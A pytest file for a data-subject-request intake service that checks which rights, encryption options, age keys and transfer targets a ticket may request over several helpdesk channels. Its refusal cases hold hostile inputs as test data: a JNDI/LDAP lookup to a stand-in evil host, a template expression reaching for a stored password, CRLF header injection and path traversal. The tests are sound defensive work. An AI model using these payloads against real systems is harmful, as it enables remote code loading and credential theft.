"""What a ticket may ask for besides its right, through the wire of every channel."""

import re
from dataclasses import replace
from importlib.resources import files
from typing import Any

import httpx
import pytest
from age_keys import SMALL_ORDER, bech32, recipient
from front_desk import NOW, SECRETS, FakeAirflow
from jsonschema import Draft202012Validator, FormatChecker
from served import served

from dsr import channels, schema
from dsr.errors import PermanentError
from dsr.setting_values import SettingError
from dsr.web.intake import Desk, create_app
from sandbox.tickets.sender import CHANNELS, signed, ticket_body

KEY = recipient("a person's")
SECRET_HALF = bech32("age-secret-key-", bytes(range(32))).upper()
POINTERS = {
    "standard_webhooks": ("#/right", "#/package/encryption", "#/package/age_recipient", "#/transmit_to"),
    "zendesk": ("#/right", "#/package/encryption", "#/package/age_recipient", "#/transmit_to"),
    "freshdesk": ("#/right", "#/package/encryption", "#/package/age_recipient", "#/transmit_to"),
    "jira": tuple(f"#/issue/fields/customfield_{n}" for n in (10101, 10105, 10106, 10107)),
}
PLACES = ("right", "encryption", "age_recipient", "transmit_to")


def body_for(channel: str, **asked: str) -> dict[str, Any]:
    ticket = "DSR-1" if channel == "jira" else "1001"
    return ticket_body(channel, ticket, email="asa@kvarnberget.example", at=NOW, **asked)


def send(url: str, channel: str, body: Any, delivery: str = "options") -> httpx.Response:
    headers, raw = signed(channel, body, SECRETS[channel], NOW, f"{channel}-{delivery}")
    return httpx.post(f"{url}/requests/{channel}", headers=headers, content=raw, timeout=30)


def pointer(channel: str, option: str) -> str:
    return POINTERS[channel][PLACES.index(option)]


@pytest.mark.parametrize("channel", CHANNELS)
@pytest.mark.parametrize(
    ("asked", "kept"),
    [
        ({"right": "access"}, {}),
        ({"right": "portability"}, {}),
        ({"right": "access", "encryption": "none"}, {"package": {"encryption": "none"}}),
        ({"right": "access", "encryption": "zip"}, {"package": {"encryption": "zip"}}),
        (
            {"right": "access", "encryption": "age", "age_recipient": KEY},
            {"package": {"encryption": "age", "age_recipient": KEY}},
        ),
        (
            {"right": "portability", "encryption": "age", "age_recipient": KEY.upper()},
            {"package": {"encryption": "age", "age_recipient": KEY}},
        ),
        ({"right": "portability", "transmit_to": "other-bank"}, {"transmit_to": "other-bank"}),
        (
            {"right": "portability", "encryption": "none", "transmit_to": "b" + "0" * 62},
            {"package": {"encryption": "none"}, "transmit_to": "b" + "0" * 62},
        ),
        ({"right": "portability", "encryption": "zip"}, {"package": {"encryption": "zip"}}),
    ],
)
def test_what_is_asked_for_is_kept(
    channel: str, asked: dict[str, str], kept: dict[str, Any], intake: str, desk: Desk, airflow: FakeAirflow
) -> None:
    response = send(intake, channel, body_for(channel, **asked))
    assert response.status_code == 202
    request_id = response.json()["request_id"]
    request = desk.cases.open(request_id).read_json("request")
    Draft202012Validator(schema.load("request"), format_checker=FormatChecker()).validate(request)
    assert request["right"] == asked["right"]
    assert {name: request[name] for name in ("package", "transmit_to") if name in request} == kept
    assert airflow.runs[request_id]["dag"] == f"dsr_{asked['right']}"
    assert airflow.runs[request_id]["conf"].keys() == {"request_id", "received_at"}
    received, triaged, _ = desk.ledger.events(request_id)
    assert triaged.detail == {"questions": [], "within_year": 1}
    assert received.detail.keys() == {"channel", "right", "received_at", "target", "legal_latest"}
    assert received.detail["right"] == asked["right"]


REFUSED = [
    (
        {"right": "portability", "encryption": "zip", "transmit_to": "other-bank"},
        "encryption",
        "is not zip for a package that is sent to another",
    ),
    ({"right": "erasure", "encryption": "zip"}, "encryption", "is for access and portability only"),
    (
        {"right": "objection", "ground": "direct_marketing", "transmit_to": "other-bank"},
        "transmit_to",
        "is for portability",
    ),
    ({"encryption": "age"}, "age_recipient", "is required with the encryption age"),
    ({"age_recipient": KEY}, "encryption", "is required"),
    ({"encryption": "zip", "age_recipient": KEY}, "age_recipient", "is only for the encryption age"),
    ({"encryption": "none", "age_recipient": KEY}, "age_recipient", "is only for the encryption age"),
    ({"encryption": "rot-thirteen"}, "encryption", "is not one of the accepted values"),
    ({"encryption": "AGE"}, "encryption", "is not one of the accepted values"),
    ({"encryption": "none", "transmit_to": "other-bank"}, "transmit_to", "is for portability only"),
    ({"transmit_to": "other-bank"}, "transmit_to", "is for portability only"),
    *[
        ({"encryption": "age", "age_recipient": key}, "age_recipient", "is no age X25519 recipient")
        for key in (
            KEY[:-1] + ("q" if KEY[-1] != "q" else "p"),
            KEY[:-1],
            KEY.capitalize(),
            KEY.replace("age1", "agé1"),
            bech32("age", bytes(31)),
            bech32("age", bytes(33)),
            bech32("agf", bytes(range(32))),
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA",
            "age1yubikey1qwt50d05nh5vutpdzmlg5wn80xq5negm4uj9ghv",
            *(bech32("age", point) for point in SMALL_ORDER),
        )
    ],
    ({"encryption": "age", "age_recipient": SECRET_HALF}, "age_recipient", ""),
    ({"encryption": "age", "age_recipient": KEY * 90}, "age_recipient", ""),
    ({"encryption": "age", "age_recipient": f"{KEY}\r\nage1"}, "age_recipient", ""),
    *[
        ({"right": "portability", "transmit_to": key}, "transmit_to", "")
        for key in (
            "Other-Bank",
            "-other-bank",
            "other_bank",
            "other bank",
            "other-bank\r\nx: y",
            "https://evil.example/inbox",
            "../../dsr_recipient_other",
            "öresund-bank",
            "{{ conn.dsr_salesforce.password }}",
            "${jndi:ldap://evil.example/a}",
            "a" * 64,
            "a" * 5000,
        )
    ],
]


@pytest.mark.parametrize(("asked", "option", "detail"), REFUSED)
def test_what_is_refused_names_its_field_without_its_value(
    asked: dict[str, str], option: str, detail: str, intake: str, desk: Desk, airflow: FakeAirflow
) -> None:
    for channel in CHANNELS:
        response = send(intake, channel, body_for(channel, **{"right": "access", **asked}))
        assert response.status_code == 422
        assert response.headers["content-type"] == "application/problem+json"
        errors = {error["pointer"]: error["detail"] for error in response.json()["errors"]}
        assert errors[pointer(channel, option)].startswith(detail)
        assert set(errors) <= set(POINTERS[channel])
        assert not [value for value in asked.values() if value in response.text and value not in ("age", "none", "zip")]
    assert (airflow.starts, desk.cases.cases()) == (0, [])


@pytest.mark.parametrize("channel", CHANNELS)
def test_everything_that_is_wrong_is_said_at_once(channel: str, intake: str) -> None:
    body = body_for(channel, right="access", encryption="zip", age_recipient="age1nothing", transmit_to="other-bank")
    errors = send(intake, channel, body).json()["errors"]
    assert {error["pointer"] for error in errors} == {
        pointer(channel, o) for o in ("encryption", "age_recipient", "transmit_to")
    }
    assert len(errors) == 4


@pytest.mark.parametrize(
    ("channel", "change"),
    [
        ("zendesk", lambda b: (b.pop("package"), b.pop("transmit_to"))),
        ("zendesk", lambda b: b.update(package=None, transmit_to=None)),
        ("zendesk", lambda b: b.update(package={}, transmit_to="  ")),
        ("zendesk", lambda b: b.update(package={"encryption": None, "colour": "red"})),
        ("jira", lambda b: [b["issue"]["fields"].pop(f"customfield_{n}") for n in (10105, 10106, 10107)]),
    ],
)
def test_a_field_without_a_value_asks_for_nothing(channel: str, change: Any, intake: str, desk: Desk) -> None:
    body = body_for(channel)
    change(body)
    accepted = send(intake, channel, body)
    request = desk.cases.open(accepted.json()["request_id"]).read_json("request")
    assert request["right"] == "access"
    assert not {"package", "transmit_to"} & request.keys()


@pytest.mark.parametrize("channel", ["zendesk", "jira"])
def test_a_key_pasted_with_blanks_around_it(channel: str, intake: str, desk: Desk) -> None:
    accepted = send(intake, channel, body_for(channel, encryption="age", age_recipient=f"  {KEY} "))
    request = desk.cases.open(accepted.json()["request_id"]).read_json("request")
    assert request["package"]["age_recipient"] == KEY


@pytest.mark.parametrize(
    ("package", "at"),
    [
        ({}, "#/package/encryption"),
        ({"encryption": "zip", "password": "secret-value"}, "#/package/password"),
        ({"encryption": None}, "#/package/encryption"),
        ({"encryption": ["zip"]}, "#/package/encryption"),
        ({"encryption": "age", "age_recipient": ""}, "#/package/age_recipient"),
        ("zip", "#/package"),
        (None, "#/package"),
    ],
)
def test_our_own_form_is_strict(package: Any, at: str, intake: str) -> None:
    response = send(intake, "standard_webhooks", {**body_for("standard_webhooks"), "package": package})
    assert response.status_code == 422
    assert at in [error["pointer"] for error in response.json()["errors"]]
    assert "secret-value" not in response.text


@pytest.mark.parametrize(
    ("channel", "fields"),
    [
        ("zendesk", ["ticket_field_10101", "ticket_field_10105", "ticket_field_10106", "ticket_field_10107"]),
        ("freshdesk", ["cf_dsr_right", "cf_dsr_encryption", "cf_dsr_age_recipient", "cf_dsr_transmit_to"]),
    ],
)
def test_the_body_that_ships_is_what_the_channel_takes(channel: str, fields: list[str]) -> None:
    """As the system fills it: each placeholder by its text, without a value by none."""
    trigger = files("dsr.channels").joinpath(f"{channel}-trigger.json").read_text()
    values = {
        "ticket.id": "1001",
        "ticket.created_at_with_timestamp": "2026-03-05T09:30:00Z",
        "ticket.requester.email": "asa@kvarnberget.example",
    }
    chosen = ["portability", "age", KEY, "other-bank"]
    values |= {f"ticket.{field}": value for field, value in zip(fields, chosen, strict=True)}
    filled = re.sub(r"\{\{(.*?)\}\}", lambda found: values.get(found[1], ""), trigger)
    ticket = channels.CHANNELS[channel].parse(filled.encode())
    assert (ticket.right, ticket.transmit_to, ticket.ticket_id) == ("portability", "other-bank", "1001")
    assert ticket.package == {"encryption": "age", "age_recipient": KEY}


def test_a_ticket_shows_neither_key_nor_recipient() -> None:
    body = body_for("zendesk", right="portability", encryption="age", age_recipient=KEY, transmit_to="other-bank")
    shown = repr(channels.CHANNELS["zendesk"].parse(signed("zendesk", body, "s", NOW, "d")[1]))
    assert KEY not in shown
    assert "other-bank" not in shown
    assert "asa@" not in shown


def test_a_jira_site_with_fields_of_its_own(desk: Desk) -> None:
    env = {"DSR_CHANNEL_JIRA_FIELDS": '{"right": "customfield_20001", "transmit_to": "customfield_20007"}'}
    body = body_for("jira", right="", transmit_to="")
    body["issue"]["fields"] |= {"customfield_20001": {"value": "portability"}, "customfield_20007": "other-bank"}
    with served(create_app(replace(desk, channels=channels.from_environment(env)))) as url:
        accepted = send(url, "jira", body)
        body["issue"]["fields"]["customfield_20007"] = "Other Bank"
        refused = send(url, "jira", body, "other")
    request = desk.cases.open(accepted.json()["request_id"]).read_json("request")
    assert (request["right"], request["transmit_to"]) == ("portability", "other-bank")
    assert refused.json()["errors"][0]["pointer"] == "#/issue/fields/customfield_20007"


@pytest.mark.parametrize(
    "text",
    [
        "right=customfield_1",
        "[]",
        "[" * 100_000,
        '{"colour": "customfield_1"}',
        '{"right": "10101"}',
        '{"right": "customfield_1/../x"}',
        '{"right": 10101}',
        '{"right": "customfield_10102"}',
        '{"right": "customfield_1", "transmit_to": "customfield_1"}',
    ],
)
def test_fields_that_can_not_be_meant(text: str) -> None:
    with pytest.raises(SettingError, match=r"setting\.channel_jira_fields.*DSR_CHANNEL_JIRA_FIELDS") as caught:
        channels.from_environment({"DSR_CHANNEL_JIRA_FIELDS": text})
    assert isinstance(caught.value, PermanentError)


def test_without_the_setting_the_fields_are_the_usual_ones() -> None:
    assert channels.from_environment({}) == channels.CHANNELS
    assert channels.from_environment({"DSR_CHANNEL_JIRA_FIELDS": " "}) == channels.CHANNELS
